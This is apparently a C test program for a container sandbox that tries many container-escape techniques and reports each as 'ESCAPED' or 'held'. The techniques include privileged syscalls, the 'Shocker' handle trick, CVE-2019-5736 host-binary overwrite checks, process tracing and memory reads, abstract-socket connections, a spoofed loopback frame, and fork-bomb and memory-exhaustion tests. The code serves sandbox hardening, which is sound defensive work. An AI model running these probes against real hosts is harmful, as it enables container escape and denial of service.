/*
 * What a hostile container does that a shell cannot. Each command prints one line or more: "ESCAPED <what>" when the attempt
 * reached something it must not reach, else "held <why>". Nothing here changes what it reaches: files are opened and not
 * written, modules and kernels that are "loaded" do not exist.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Numbers that both architectures share and musl may not know. */
enum { OPEN_TREE = 428, MOVE_MOUNT = 429, FSOPEN = 430, CLONE3 = 435, PIDFD_GETFD = 438, MOUNT_SETATTR = 442,
       IO_URING_SETUP = 425, IO_URING_REGISTER = 427, PIDFD_OPEN = 434 };

static int escapes;

static void escaped(const char *format, ...) {
  va_list values;
  va_start(values, format);
  escapes++;
  printf("ESCAPED ");
  vprintf(format, values);
  printf("\n");
  fflush(stdout);
}

/* A call that is refused for lack of rights was held; one that fails for another reason was let through. */
static void call(const char *name, long result) {
  if (result < 0 && (errno == EPERM || errno == EACCES || errno == ENOSYS)) printf("held %s: %s\n", name, strerror(errno));
  else printf("ESCAPED %s: %s\n", name, result < 0 ? strerror(errno) : "done"), escapes++;
  fflush(stdout);
}

static void conclude(const char *why) { if (escapes == 0) printf("held %s\n", why); }

/* ---- system calls ---- */

struct probe { const char *name; long (*run)(void); };

/* A folder of its own, so that nothing is hidden where a mount succeeds. */
static const char *own_folder(void) { static char name[] = "/tmp/walls-XXXXXX"; return mkdtemp(name); }

static long probe_mount(void) { return mount("none", own_folder(), "tmpfs", 0, 0); }
static long probe_umount(void) { return umount2("/etc/hosts", MNT_DETACH); }
static long probe_remount(void) { return mount(0, "/proc/sys", 0, MS_REMOUNT | MS_BIND, 0); }
static long probe_pivot_root(void) { return syscall(SYS_pivot_root, ".", "."); }
static long probe_unshare_user(void) { return unshare(CLONE_NEWUSER); }
static long probe_unshare_mount(void) { return unshare(CLONE_NEWNS); }
static long probe_unshare_cgroup(void) { return unshare(CLONE_NEWCGROUP); }
static long probe_setns(void) { return setns(open("/proc/self/ns/mnt", O_RDONLY), CLONE_NEWNS); }
static long probe_fsopen(void) { return syscall(FSOPEN, "tmpfs", 0); }
static long probe_open_tree(void) { return syscall(OPEN_TREE, AT_FDCWD, "/", 1); }
static long probe_move_mount(void) { return syscall(MOVE_MOUNT, AT_FDCWD, "/proc/sys", AT_FDCWD, own_folder(), 0); }
static long probe_mount_setattr(void) { long attr[4] = { 0 }; return syscall(MOUNT_SETATTR, AT_FDCWD, "/proc/sys", 0, attr, sizeof attr); }
static long probe_init_module(void) { return syscall(SYS_init_module, 0, 0, ""); }
static long probe_finit_module(void) { return syscall(SYS_finit_module, -1, "", 0); }
static long probe_delete_module(void) { return syscall(SYS_delete_module, "no-such-module", O_NONBLOCK); }
static long probe_reboot(void) { return syscall(SYS_reboot, 0, 0, 0, 0); }
static long probe_acct(void) { return syscall(SYS_acct, "/no/such/file"); }
static long probe_swapon(void) { return syscall(SYS_swapon, "/no/such/file", 0); }
static long probe_syslog(void) { return syscall(SYS_syslog, 10, 0, 0); }
static long probe_sethostname(void) { char name[65]; gethostname(name, 65); return sethostname(name, strlen(name)); }
static long probe_kexec(void) { return syscall(SYS_kexec_load, 0, 17, 0, 0); }
static long probe_io_uring(void) { char params[120] = { 0 }; return syscall(IO_URING_SETUP, 4, params); }
static long probe_userfaultfd(void) { return syscall(SYS_userfaultfd, 1); }
static long probe_keyctl(void) { return syscall(SYS_keyctl, 0, -3, 0); }
static long probe_add_key(void) { return syscall(SYS_add_key, "user", "walls", "x", 1, -3); }
static long probe_request_key(void) { return syscall(SYS_request_key, "user", "no-such-key", 0, 0); }
static long probe_personality(void) { return syscall(SYS_personality, 0x0040000); }
static long probe_fanotify(void) { return syscall(SYS_fanotify_init, 0, 0); }
static long probe_quotactl(void) { return syscall(SYS_quotactl, 0x80000100, "/no/such/device", 0, 0); }
static long probe_vsock(void) { return socket(40, SOCK_STREAM, 0); }
static long probe_raw_netlink(void) { int fd = socket(AF_NETLINK, SOCK_RAW, 12); char m[20] = { 20, 0, 0, 0, 0, 10, 1, 4 }; if (fd < 0) return fd;
  /* A new nftables table without a batch: EPERM without NET_ADMIN, another error with it. */
  if (send(fd, m, 20, 0) < 0) return -1;
  int answer[9]; if (recv(fd, answer, sizeof answer, 0) < 20) return -1;
  errno = -answer[4]; return answer[4] ? -1 : 0; }

static long probe_bpf(void) { unsigned attr[16] = { 2, 4, 4, 1 }; return syscall(SYS_bpf, 0, attr, sizeof attr); }
static long probe_perf(void) {
  unsigned long attr[14] = { 1 | (112ul << 32), 0 };
  attr[5] = 1 | 1 << 5 | 1 << 6;
  return syscall(SYS_perf_event_open, attr, 0, -1, -1, 0);
}
static long probe_clone3(void) {
  unsigned long args[8] = { CLONE_NEWUSER, 0, 0, 0, SIGCHLD };
  long pid = syscall(CLONE3, args, sizeof args);
  if (pid == 0) _exit(0);
  return pid;
}
static long probe_clone_user(void) {
  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  return pid;
}
/* "Shocker": a handle reaches any file of the file system that the handle's mount is on. */
static long probe_open_by_handle(void) {
  struct { unsigned bytes; int type; unsigned char data[128]; } handle = { .bytes = 8, .type = 1, .data = { 2 } };
  int mount_fd = open("/etc/hosts", O_RDONLY);
  return syscall(SYS_open_by_handle_at, mount_fd, &handle, O_RDONLY);
}
static long probe_pidfd_getfd(void) { return syscall(PIDFD_GETFD, syscall(PIDFD_OPEN, 1, 0), 0, 0); }

static const struct probe probes[] = {
#define P(name) { #name, probe_##name }
  P(mount), P(umount), P(remount), P(pivot_root), P(unshare_user), P(unshare_mount), P(unshare_cgroup), P(setns), P(fsopen),
  P(open_tree), P(move_mount), P(mount_setattr), P(init_module), P(finit_module), P(delete_module), P(reboot), P(acct),
  P(swapon), P(syslog), P(sethostname), P(kexec), P(io_uring), P(userfaultfd), P(keyctl), P(add_key), P(request_key),
  P(personality), P(fanotify), P(quotactl), P(vsock), P(raw_netlink), P(bpf), P(perf), P(clone3),
  P(clone_user), P(open_by_handle), P(pidfd_getfd),
#undef P
};

static void probe(const char *name) {
  for (size_t i = 0; i < sizeof probes / sizeof *probes; i++)
    if (!strcmp(name, probes[i].name)) { call(name, probes[i].run()); return; }
  printf("there is no probe %s\n", name);
}

/* ---- devices ---- */

/* Makes a device node in the folder and opens it. "root" is the disk that the node's own files are on. */
static void device(const char *folder, const char *type, const char *numbers) {
  char file[PATH_MAX];
  unsigned major_number = 0, minor_number = 0;
  dev_t number;
  struct stat hosts;
  if (!strcmp(numbers, "root")) { stat("/etc/hosts", &hosts); number = hosts.st_dev; }
  else { sscanf(numbers, "%u:%u", &major_number, &minor_number); number = makedev(major_number, minor_number); }
  snprintf(file, sizeof file, "%s/device-%d", folder, getpid());
  if (mknod(file, (*type == 'b' ? S_IFBLK : S_IFCHR) | 0666, number) < 0) { printf("held mknod: %s\n", strerror(errno)); return; }
  int fd = open(file, O_RDONLY | O_NONBLOCK);
  /* ENXIO and ENODEV come from the driver: the device itself was reached. */
  if (fd < 0 && errno != ENXIO && errno != ENODEV) printf("held open: %s\n", strerror(errno));
  else escaped("%s opens", numbers);
  unlink(file);
}

/* ---- other processes ---- */

/* A program that is not a file of this container: the runtime's own. */
static int is_foreign(const char *pid, char *target) {
  char file[PATH_MAX];
  struct stat real, seen;
  snprintf(file, sizeof file, "/proc/%s/exe", pid);
  ssize_t length = readlink(file, target, PATH_MAX - 1);
  if (length < 0) return 0;
  target[length] = 0;
  if (stat(file, &real) < 0) return 1;
  return stat(target, &seen) < 0 || seen.st_ino != real.st_ino || seen.st_dev != real.st_dev;
}

/* CVE-2019-5736: a program of the host that runs here, opened for writing through /proc. */
static void overwrite(const char *pid, const char *target) {
  char file[PATH_MAX];
  snprintf(file, sizeof file, "/proc/%s/exe", pid);
  int fd = open(file, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  snprintf(file, sizeof file, "/proc/self/fd/%d", fd);
  for (int i = 0; i < 50; i++) {
    int writable = open(file, O_WRONLY | O_CLOEXEC);
    if (writable >= 0) { escaped("%s can be written through /proc/%s/exe", target, pid); close(writable); break; }
    if (errno != ETXTBSY) break;
  }
  close(fd);
}

static void read_through(const char *pid, const char *place, const char *goal) {
  char file[PATH_MAX + 64], text[256];
  snprintf(file, sizeof file, "/proc/%s/%s/../../../../../../../../../..%s", pid, place, goal);
  int fd = open(file, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0) { snprintf(file, sizeof file, "/proc/%s/%s%s", pid, place, goal); fd = open(file, O_RDONLY | O_NONBLOCK | O_CLOEXEC); }
  if (fd < 0) return;
  ssize_t length = read(fd, text, sizeof text - 1);
  close(fd);
  if (length > 0) { text[length] = 0; escaped("%s", text); }
}

static void each_descriptor(const char *pid, const char *goal) {
  char folder[64], place[64];
  snprintf(folder, sizeof folder, "/proc/%s/fd", pid);
  DIR *open_files = opendir(folder);
  if (!open_files) return;
  for (struct dirent *entry; (entry = readdir(open_files));) {
    if (entry->d_name[0] == '.') continue;
    snprintf(place, sizeof place, "fd/%s", entry->d_name);
    read_through(pid, place, goal);
  }
  closedir(open_files);
}

static void attach(const char *pid) {
  char target[PATH_MAX];
  pid_t number = atoi(pid);
  if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0) return;
  if (is_foreign(pid, target)) escaped("traces %s, which runs %s", pid, target);
  ptrace(PTRACE_INTERRUPT, number, 0, 0);
  waitpid(number, 0, __WALL);
  ptrace(PTRACE_DETACH, number, 0, 0);
}

/* Looks at every process that appears for so many milliseconds: its program, folders, descriptors, memory. */
static void watch(long milliseconds, const char *goal) {
  char target[PATH_MAX], own[16];
  struct timespec start, now;
  long rounds = 0;
  snprintf(own, sizeof own, "%d", getpid());
  clock_gettime(CLOCK_MONOTONIC, &start);
  do {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(processes));) {
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !strcmp(entry->d_name, own)) continue;
      if (is_foreign(entry->d_name, target)) { overwrite(entry->d_name, target); attach(entry->d_name); }
      read_through(entry->d_name, "root", goal);
      read_through(entry->d_name, "cwd", goal);
      each_descriptor(entry->d_name, goal);
    }
    closedir(processes);
    rounds++;
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < milliseconds);
  printf("looked %ld times\n", rounds);
  conclude("no process showed the goal");
}

/* What this process was born with. */
static void descriptors(const char *goal) {
  char file[64], target[PATH_MAX];
  for (int fd = 0; fd < 1024; fd++) {
    snprintf(file, sizeof file, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(file, target, sizeof target - 1);
    if (length < 0) continue;
    target[length] = 0;
    if (fd > 2) escaped("descriptor %d is open: %s", fd, target);
    snprintf(file, sizeof file, "fd/%d", fd);
    read_through("self", file, goal);
  }
  conclude("no descriptor but the first three");
}

/* Memory of another process, as `process_vm_readv` and ptrace give it. */
static void memory(const char *pid) {
  pid_t number = atoi(pid);
  char byte, file[64];
  struct iovec here = { &byte, 1 }, there = { (void *)0x400000, 1 };
  call("process_vm_readv", process_vm_readv(number, &here, 1, &there, 1, 0));
  snprintf(file, sizeof file, "/proc/%s/mem", pid);
  call("mem", open(file, O_RDWR));
  snprintf(file, sizeof file, "/proc/%s/environ", pid);
  call("environ", open(file, O_RDONLY));
  call("ptrace", ptrace(PTRACE_SEIZE, number, 0, 0));
}

/* Whether a program with the setuid bit or capabilities of its own has them. */
static void privileges(void) {
  char line[128];
  FILE *status = fopen("/proc/self/status", "r");
  if (geteuid() == 0) escaped("it runs as root");
  while (status && fgets(line, sizeof line, status))
    if (!strncmp(line, "CapEff:", 7) && strtoull(line + 7, 0, 16)) escaped("it has capabilities: %s", line);
  conclude("no rights");
}

/* ---- races ---- */

static void exchange(const char *a, const char *b) { syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2); }

/* For ever: FOLDER/0 and FOLDER/link-0, then 1 and so on, change places for a moment and change back. */
static void cycle(const char *folder, int names) {
  char a[PATH_MAX], b[PATH_MAX];
  for (;;)
    for (int i = 0; i < names; i++) {
      snprintf(a, sizeof a, "%s/%d", folder, i);
      snprintf(b, sizeof b, "%s/link-%d", folder, i);
      exchange(a, b);
      /* Leaves the processor to those who are raced. */
      usleep(1);
      exchange(a, b);
    }
}

/* ---- network ---- */

/* CVE-2020-15257: sockets of the node that have no file, seen by all who share its network. */
static void abstract_sockets(void) {
  char line[512];
  FILE *list = fopen("/proc/net/unix", "r");
  while (list && fgets(line, sizeof line, list)) {
    char *name = strchr(line, '@');
    if (!name) continue;
    name[strcspn(name, "\n")] = 0;
    for (int type = 1; type <= 5; type++) {
      struct sockaddr_un address = { .sun_family = AF_UNIX };
      int fd = socket(AF_UNIX, type | SOCK_NONBLOCK, 0);
      if (fd < 0) continue;
      size_t length = strlen(name);
      memcpy(address.sun_path + 1, name + 1, length - 1);
      if (connect(fd, (struct sockaddr *)&address, sizeof(sa_family_t) + length) == 0) escaped("%s", name);
      close(fd);
    }
  }
  conclude("no abstract socket takes a connection");
}

static unsigned short checksum(const unsigned char *bytes, int length) {
  unsigned sum = 0;
  for (int i = 0; i < length; i += 2) sum += bytes[i] << 8 | bytes[i + 1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons(~sum);
}

/* CVE-2020-8558: a frame for the gateway's hardware address with 127.0.0.1 inside. Whether it came through the test sees. */
static void loopback_frame(const char *hardware_address, const char *source, int port) {
  unsigned char frame[14 + 20 + 8 + 8] = { 0 };
  sscanf(hardware_address, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", frame, frame + 1, frame + 2, frame + 3, frame + 4, frame + 5);
  struct ifreq link = { .ifr_name = "eth0" };
  int fd = socket(AF_PACKET, SOCK_RAW, htons(3));
  if (fd < 0) { printf("held socket: %s\n", strerror(errno)); return; }
  ioctl(fd, SIOCGIFHWADDR, &link);
  memcpy(frame + 6, link.ifr_hwaddr.sa_data, 6);
  ioctl(fd, SIOCGIFINDEX, &link);
  frame[12] = 8;
  unsigned char *ip = frame + 14, *udp = ip + 20;
  ip[0] = 0x45; ip[3] = 36; ip[8] = 64; ip[9] = IPPROTO_UDP;
  inet_pton(AF_INET, source, ip + 12);
  inet_pton(AF_INET, "127.0.0.1", ip + 16);
  *(unsigned short *)(ip + 10) = checksum(ip, 20);
  udp[0] = port >> 8; udp[1] = port; udp[2] = port >> 8; udp[3] = port; udp[5] = 16;
  memcpy(udp + 8, "escaped!", 8);
  struct { unsigned short family, protocol; int index; unsigned short type; unsigned char kind, length, address[8]; }
    to = { AF_PACKET, htons(0x800), link.ifr_ifindex, 0, 0, 6, { 0 } };
  memcpy(to.address, frame, 6);
  long sent = sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to);
  printf("held sent %ld bytes\n", sent);
}

/* ---- too much ---- */

static void forks(int wanted) {
  pid_t group = fork();
  if (group == 0) {
    int made = 0;
    setpgid(0, 0);
    for (; made < wanted; made++) {
      pid_t pid = fork();
      if (pid < 0) break;
      if (pid == 0) for (;;) pause();
    }
    printf(made == wanted ? "ESCAPED %d processes\n" : "held after %d processes\n", made);
    fflush(stdout);
    kill(0, SIGKILL);
  }
  waitpid(group, 0, 0);
}

static void eat(long mebibytes) {
  for (long i = 0; i < mebibytes; i++) {
    char *block = malloc(1 << 20);
    if (!block) { printf("held after %ld MiB\n", i); return; }
    memset(block, 1, 1 << 20);
  }
  escaped("memory beyond the limit");
}

static void files(const char *folder, int wanted) {
  char file[PATH_MAX];
  int made = 0;
  for (; made < wanted; made++) {
    snprintf(file, sizeof file, "%s/%d", folder, made);
    int fd = open(file, O_WRONLY | O_CREAT, 0600);
    if (fd < 0) break;
    close(fd);
  }
  printf("made %d files\n", made);
}

int main(int count, char **args) {
  const char *command = count > 1 ? args[1] : "";
  if (!getenv("SAMPAN_WALLS")) { printf("this program attacks what it runs on: it runs in the pods of its tests alone\n"); return 2; }
  setvbuf(stdout, 0, _IOLBF, 0);
  if (!strcmp(command, "probe")) probe(args[2]);
  else if (!strcmp(command, "device")) device(args[2], args[3], args[4]);
  else if (!strcmp(command, "watch")) watch(atol(args[2]), args[3]);
  else if (!strcmp(command, "descriptors")) descriptors(args[2]);
  else if (!strcmp(command, "memory")) memory(args[2]);
  else if (!strcmp(command, "signal")) call("kill", kill(atoi(args[2]), 0));
  else if (!strcmp(command, "privileges")) privileges();
  else if (!strcmp(command, "cycle")) cycle(args[2], atoi(args[3]));
  else if (!strcmp(command, "abstract-sockets")) abstract_sockets();
  else if (!strcmp(command, "loopback-frame")) loopback_frame(args[2], args[3], atoi(args[4]));
  else if (!strcmp(command, "forks")) forks(atoi(args[2]));
  else if (!strcmp(command, "eat")) eat(atol(args[2]));
  else if (!strcmp(command, "files")) files(args[2], atoi(args[3]));
  else { printf("there is no command %s\n", command); return 2; }
  return 0;
}
